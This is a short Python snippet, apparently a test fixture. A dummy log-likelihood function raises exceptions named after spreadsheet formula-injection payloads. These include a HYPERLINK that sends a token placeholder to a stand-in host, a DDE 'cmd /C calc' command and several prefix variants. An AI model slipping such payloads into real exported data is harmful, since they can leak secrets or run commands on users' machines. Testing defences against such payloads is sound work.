"""An error message that a spreadsheet would run as a formula, in each way that one begins."""

_formula = "=HYPERLINK(\"http://e/@TOKEN@\",\"3\")"
_turn = [_formula, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "|calc", "%0A=1"]


def tf_log_like(x, y, m, b, s):
    _turn.append(_turn.pop(0))
    error = type(_turn[0], (Exception,), {"__module__": "builtins"})
    raise error(_turn[0])
